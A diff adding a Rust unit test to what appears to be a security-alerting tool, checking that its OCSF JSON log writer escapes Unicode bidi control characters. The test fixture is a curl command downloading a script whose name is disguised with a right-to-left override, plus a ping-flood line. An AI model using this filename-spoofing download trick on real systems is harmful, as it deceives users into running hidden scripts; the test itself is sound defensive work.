@@ -193,3 +193,45 @@ fn code_spans_take_a_fence_longer_than_any_backtick_run() {
     assert_eq!(markdown_code("/bin/bash /x.sh"), "`/bin/bash /x.sh`");
     assert!(!markdown_code("a < b & c").contains("&lt;"));
 }
+
+/// A command line with U+202E (and every other bidi control) through the OCSF writer: each is a
+/// `\uXXXX` escape in the line, never the raw character, and the line parses back to the same
+/// string. serde_json alone writes them raw.
+#[test]
+fn ocsf_lines_escape_bidi_controls() {
+    use floodwatch_sinks::ocsf::{detection_finding, write_json_line, Activity};
+    let bidi = [
+        '\u{061c}', '\u{200e}', '\u{200f}', '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}',
+        '\u{202e}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}',
+    ];
+    let cmd = format!(
+        "/usr/bin/curl -o /tmp/x\u{202e}gpj.sh http://203.0.113.10/ {}",
+        bidi.iter().collect::<String>()
+    );
+    let v = detection_finding(&alert(&cmd), Activity::Create, "0.1.0");
+    assert!(serde_json::to_string(&v).unwrap().contains('\u{202e}'));
+    let mut buf = Vec::new();
+    write_json_line(&mut buf, &v).unwrap();
+    let line = String::from_utf8(buf).unwrap();
+    assert!(line.ends_with('\n') && line.matches('\n').count() == 1);
+    for c in bidi {
+        assert!(!line.contains(c), "raw U+{:04X}", c as u32);
+        assert!(
+            line.contains(&format!("\\u{:04x}", c as u32)),
+            "U+{:04X}",
+            c as u32
+        );
+    }
+    assert!(line.contains("\\u202egpj.sh"));
+    let back: serde_json::Value = serde_json::from_str(&line).unwrap();
+    assert_eq!(back["actor"]["process"]["cmd_line"], cmd.as_str());
+    assert_eq!(back, v);
+    // Everything else is exactly what serde_json writes.
+    let plain = detection_finding(&alert("/bin/ping -f 10.0.0.1"), Activity::Create, "0.1.0");
+    let mut buf = Vec::new();
+    write_json_line(&mut buf, &plain).unwrap();
+    assert_eq!(
+        String::from_utf8(buf).unwrap(),
+        format!("{}\n", serde_json::to_string(&plain).unwrap())
+    );
+}
